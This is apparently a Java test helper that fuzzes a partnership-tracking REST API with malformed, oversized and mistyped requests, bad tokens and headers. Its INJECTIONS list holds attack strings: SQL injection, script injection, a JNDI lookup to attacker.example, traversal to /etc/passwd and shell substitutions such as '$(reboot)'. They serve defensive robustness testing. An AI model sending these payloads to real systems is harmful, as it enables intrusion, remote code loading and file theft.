package org.rapport.resilience;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import org.rapport.api.EventExamples;
import org.rapport.testing.Partnerships;
import org.rapport.testing.Tokens;

/**
 * Generates hostile requests against every write and read endpoint, from a seed: valid requests
 * taken apart (fields removed, retyped, oversized, nested, duplicated, injected, out of range),
 * bytes that are not JSON or not UTF-8, wrong content types, bad paths, cursors, query parameters,
 * headers and tokens. Some mutations leave a request valid; the suite accounts for those.
 */
final class Hostile {

    static final ObjectMapper JSON = new ObjectMapper();
    static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** One request, exactly as it will be sent. */
    record Request(String kind, String method, String path, String token, String contentType, byte[] body,
            Map<String, String> headers) {

        boolean writes() {
            return method.equals("POST");
        }
    }

    static final List<String> INJECTIONS = List.of("'; drop table events; --", "\" or \"1\"=\"1", "1 OR 1=1",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "#{7*7}", "{{7*7}}",
            "../../../../etc/passwd", "%00", "\u0000", "\\u0000", "$(reboot)", "`id`", "| cat /etc/passwd",
            "\r\nSet-Cookie: x=y", "' union select * from partnerships --", "{\"$gt\": \"\"}", "\uFEFF\u202E",
            "😀".repeat(50), "%s%s%s%n", "-1", "null", "NaN");

    static final List<String> DATES = List.of("0000-01-01", "+10000-01-01", "2026-02-30", "2026-13-01",
            "1899-12-31", "9999-12-31T23:59:60Z", "-999999999-01-01", "2026-01-01T25:00:00Z", "2026/01/01", "",
            "yesterday", "2026-01-01T00:00:00+25:00", "1e10", "2026-W01-1", "P1D");

    static final List<String> NUMBERS = List.of("1e400", "-1e400", "-1", "0", "2147483648", "9223372036854775808",
            "-9223372036854775809", "0.0000001", "1.5", "NaN", "Infinity", "-0", "01", "1_000", "0x10",
            "99999999999999999999999999999999999999");

    static final List<String> QUERY_VALUES = List.of("-1", "0", "abc", "100000000", "1e3", "", "%00",
            "9223372036854775808", "' or 1=1 --", "../..", "2026-13-45", "P-1D", "PT0S", "P1000Y", "null", "[]",
            "x".repeat(5_000), "%zz", "true", "__proto__");

    private final Random random;
    private final List<UUID> partnerships;
    private final List<String> eventIds;
    private final String partnerOrg;
    private final String funderId;
    private final List<JsonNode> events;

    Hostile(long seed, List<UUID> partnerships, List<String> eventIds, String partnerOrg, String funderId) {
        this.random = new Random(seed);
        this.partnerships = partnerships;
        this.eventIds = eventIds;
        this.partnerOrg = partnerOrg;
        this.funderId = funderId;
        this.events = EventExamples.STORY.values().stream().map(Hostile::tree).toList();
    }

    static JsonNode tree(String json) {
        try {
            return JSON.readTree(json);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private String partnershipPath() {
        return switch (random.nextInt(12)) {
            case 0 -> "/partnerships/" + pick(List.of("not-a-uuid", "00000000-0000-0000-0000-00000000000g", "%20",
                    "..%2F..%2Fadmin", UUID.randomUUID().toString(), "%27%20or%201%3D1", "x".repeat(2_000)));
            default -> "/partnerships/" + pick(partnerships);
        };
    }

    Request next() {
        return switch (random.nextInt(14)) {
            case 0, 1, 2, 3 -> write("event", "POST", partnershipPath() + "/events", event());
            case 4, 5 -> write("batch", "POST", partnershipPath() + "/events/batch", batch());
            case 6 -> write("formation", "POST", "/partnerships",
                    JSON.valueToTree(Partnerships.formed("Hostile", partnerOrg, "hostile-b")));
            case 7 -> write("funder", "POST", "/admin/funders", JSON.valueToTree(Map.of("funderId",
                    "hostile-" + random.nextInt(1_000_000), "name", "A funder", "kind", "TRUST")));
            case 8 -> read("portfolio", "/partnerships", List.of("status", "type", "alert", "sector", "funderId",
                    "sort", "cursor", "limit"));
            case 9 -> read("stream", partnershipPath() + "/events", List.of("fromVersion", "limit"));
            case 10 -> read("health", partnershipPath() + "/health", List.of("asOf", "knownAt"));
            case 11 -> read("history", partnershipPath() + "/health/history", List.of("from", "to", "step"));
            case 12 -> read("feed", "/events", List.of("after", "limit"));
            default -> pathOnly();
        };
    }

    private JsonNode event() {
        return pick(events).deepCopy();
    }

    private JsonNode batch() {
        ArrayNode batch = NODES.arrayNode();
        for (int i = 1 + random.nextInt(3); i > 0; i--) {
            batch.add(event());
        }
        return batch;
    }

    private Request pathOnly() {
        var path = switch (random.nextInt(5)) {
            case 0 -> partnershipPath();
            case 1 -> partnershipPath() + "/events/" + pick(List.of(pick(eventIds), "not-an-id", UUID.randomUUID()
                    .toString(), "%2e%2e"));
            case 2 -> "/health-model/" + pick(List.of("v1", "v999", "../../etc", "%00", "x".repeat(3_000)));
            case 3 -> "/problems/" + pick(List.of("validation", "no-such-problem", "..%2f..%2f", "%3Cscript%3E"));
            default -> "/admin/relay/replay?fromPosition=" + pick(List.of("abc", "-1", "99999999999999999999", ""));
        };
        var method = path.startsWith("/admin") ? "POST" : "GET";
        return new Request("path", method, path, token(), null, null, headers());
    }

    private Request read(String kind, String path, List<String> parameters) {
        var query = new StringBuilder();
        for (var parameter : parameters) {
            if (random.nextInt(3) == 0) {
                query.append(query.isEmpty() ? "?" : "&").append(parameter).append('=')
                        .append(java.net.URLEncoder.encode(pick(QUERY_VALUES), StandardCharsets.UTF_8));
            }
        }
        if (random.nextInt(10) == 0) {
            query.append(query.isEmpty() ? "?" : "&").append(parameters.get(0)).append("=1&")
                    .append(parameters.get(0)).append("=2");
        }
        return new Request(kind, "GET", path + query, token(), null, null, headers());
    }

    private Request write(String kind, String method, String path, JsonNode valid) {
        var node = valid;
        var mutation = random.nextInt(22);
        byte[] body;
        String contentType = "application/json";
        if (mutation < 12) {
            node = mutate(valid.deepCopy());
            body = bytes(node);
        } else {
            var text = new String(bytes(valid), StandardCharsets.UTF_8);
            body = switch (mutation) {
                case 12 -> text.substring(0, random.nextInt(Math.max(1, text.length()))).getBytes(StandardCharsets.UTF_8);
                case 13 -> (text + pick(List.of("}", "]", ",", "garbage", "{}", "\u0000"))).getBytes(StandardCharsets.UTF_8);
                case 14 -> duplicateField(text);
                case 15 -> invalidUtf8(text);
                case 16 -> {
                    contentType = pick(List.of("text/plain", "application/xml", "multipart/form-data; boundary=x",
                            "application/x-www-form-urlencoded", "application/json; charset=ISO-8859-1",
                            "application/problem+json", "*/*", "application/jsonx"));
                    yield text.getBytes(StandardCharsets.UTF_8);
                }
                case 17 -> {
                    contentType = null;
                    yield text.getBytes(StandardCharsets.UTF_8);
                }
                case 18 -> oversized();
                case 19 -> pick(List.of("", "null", "[]", "{}", "\"string\"", "42", "true", "[null]", "[[]]"))
                        .getBytes(StandardCharsets.UTF_8);
                case 20 -> deepNesting(2_000 + random.nextInt(20_000));
                default -> text.getBytes(StandardCharsets.UTF_8);
            };
        }
        return new Request(kind, method, path, token(), contentType, body, headers());
    }

    /** One structural change at a random place in the tree. */
    private JsonNode mutate(JsonNode root) {
        var containers = new ArrayList<JsonNode>();
        collect(root, containers);
        var target = pick(containers);
        if (target instanceof ObjectNode object && !object.isEmpty()) {
            var names = new ArrayList<String>();
            object.fieldNames().forEachRemaining(names::add);
            var field = pick(names);
            switch (random.nextInt(9)) {
                case 0 -> object.remove(field);
                case 1 -> object.set(field, wrongType(object.get(field)));
                case 2 -> object.put(field, pick(List.of("NOT_A_VALUE", "meetingheld", "", " STEERING",
                        "Meeting-Held", "VOLUNTARY\u0000")));
                case 3 -> object.put(field, "x".repeat(1 + random.nextInt(200_000)));
                case 4 -> object.set(field, hugeArray(object.get(field)));
                case 5 -> object.put(field, pick(INJECTIONS));
                case 6 -> object.put(field, pick(DATES));
                case 7 -> object.set(field, number());
                default -> object.put("unexpected" + random.nextInt(5), pick(INJECTIONS));
            }
        } else if (target instanceof ArrayNode array) {
            switch (random.nextInt(3)) {
                case 0 -> array.removeAll();
                case 1 -> array.add(NODES.nullNode());
                default -> array.add(pick(INJECTIONS));
            }
        }
        return root;
    }

    private static void collect(JsonNode node, List<JsonNode> containers) {
        if (node.isContainerNode()) {
            containers.add(node);
            node.elements().forEachRemaining(child -> collect(child, containers));
        }
    }

    private JsonNode wrongType(JsonNode current) {
        var options = new ArrayList<JsonNode>(List.of(NODES.numberNode(7), NODES.textNode("7"),
                NODES.booleanNode(true), NODES.nullNode(), NODES.arrayNode(), NODES.objectNode(),
                NODES.numberNode(1.5)));
        options.removeIf(option -> current != null && option.getNodeType() == current.getNodeType());
        return pick(options);
    }

    private JsonNode hugeArray(JsonNode current) {
        ArrayNode array = NODES.arrayNode();
        var element = current == null || current.isArray() ? NODES.textNode("respect") : current;
        for (int i = 10_000 + random.nextInt(40_000); i > 0; i--) {
            array.add(element);
        }
        return array;
    }

    private JsonNode number() {
        var text = pick(NUMBERS);
        try {
            return JSON.readTree(text);
        } catch (java.io.IOException notJson) {
            return NODES.textNode(text);
        }
    }

    private byte[] duplicateField(String text) {
        int brace = text.indexOf('{');
        if (brace < 0) {
            return text.getBytes(StandardCharsets.UTF_8);
        }
        var duplicate = pick(List.of("\"type\": \"MeetingHeld\", \"type\": \"RiskRaised\", ",
                "\"occurredAt\": \"2026-01-01\", \"occurredAt\": \"2026-02-01\", ",
                "\"eventId\": \"" + UUID.randomUUID() + "\", \"eventId\": \"" + UUID.randomUUID() + "\", "));
        return (text.substring(0, brace + 1) + duplicate + text.substring(brace + 1)).getBytes(StandardCharsets.UTF_8);
    }

    private byte[] invalidUtf8(String text) {
        var bytes = text.getBytes(StandardCharsets.UTF_8);
        int quote = text.indexOf(": \"");
        int at = quote < 0 ? bytes.length / 2 : text.substring(0, quote + 3).getBytes(StandardCharsets.UTF_8).length;
        var bad = pick(List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xED,
                (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80},
                new byte[] {(byte) 0xC0, (byte) 0xAF}));
        var out = new byte[bytes.length + bad.length];
        System.arraycopy(bytes, 0, out, 0, at);
        System.arraycopy(bad, 0, out, at, bad.length);
        System.arraycopy(bytes, at, out, at + bad.length, bytes.length - at);
        return out;
    }

    private byte[] oversized() {
        var text = "{\"type\": \"MeetingHeld\", \"notes\": \"" + "x".repeat(1_100_000 + random.nextInt(2_000_000)) + "\"}";
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] deepNesting(int depth) {
        return ("[".repeat(depth) + "]".repeat(depth)).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] bytes(JsonNode node) {
        try {
            return JSON.writeValueAsBytes(node);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private String token() {
        return switch (random.nextInt(20)) {
            case 0 -> null;
            case 1 -> "not-a-token";
            case 2 -> "x".repeat(10_000);
            case 3 -> Tokens.expired(partnerOrg);
            case 4 -> Tokens.signedByAStranger(partnerOrg);
            case 5 -> Tokens.funder(funderId);
            case 6, 7 -> Tokens.partner(partnerOrg);
            default -> ADMIN;
        };
    }

    private static final String ADMIN = Tokens.admin();

    private Map<String, String> headers() {
        return switch (random.nextInt(12)) {
            case 0 -> Map.of("If-Match", pick(List.of("abc", "\"-1\"", "W/\"3\"", "\"99999999999999999999\"", "*",
                    "\"1\", \"2\"", "")));
            case 1 -> Map.of("Idempotency-Key", pick(List.of("", "x".repeat(10_000), "' or 1=1")));
            case 2 -> Map.of("X-Correlation-Id", pick(List.of("not-a-uuid", "", "x".repeat(5_000))));
            case 3 -> Map.of("If-None-Match", pick(List.of("\"1\"", "garbage", "*")));
            case 4 -> Map.of("Accept", pick(List.of("application/xml", "text/html", "*/*;q=0", "image/png")));
            default -> Map.of();
        };
    }
}
